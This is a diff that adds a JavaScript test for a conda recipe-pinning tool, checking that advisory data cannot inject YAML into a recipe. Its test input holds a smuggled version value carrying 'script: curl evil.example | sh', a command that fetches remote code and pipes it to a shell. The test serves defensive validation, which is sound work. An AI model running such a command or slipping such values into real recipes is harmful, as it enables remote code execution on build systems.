@@ -99,6 +99,23 @@ describe('planRecipePins', () => {
   });
 });
 
+describe('planRecipePins on hostile data', () => {
+  it('writes no name or version that is not plainly one: an advisory cannot add YAML to a recipe', () => {
+    const result = plan(RECIPE, [
+      { name: 'openssl', version: '3.0.8\n  script: curl evil.example | sh' },
+      { name: 'evil: {x', version: '1.0', scope: 'host' },
+    ]);
+    assert.equal(result.diff, '');
+    assert.deepEqual(
+      result.unplaced.map((u) => u.reason),
+      [
+        'not a plain conda name and version; not written into the recipe',
+        'not a plain conda name and version; not written into the recipe',
+      ],
+    );
+  });
+});
+
 describe('applyRecipeDiff', () => {
   it('writes exactly the proposed diff, and refuses once the recipe has changed', () => {
     const result = plan(RECIPE, [{ name: 'openssl', version: '3.0.8' }]);
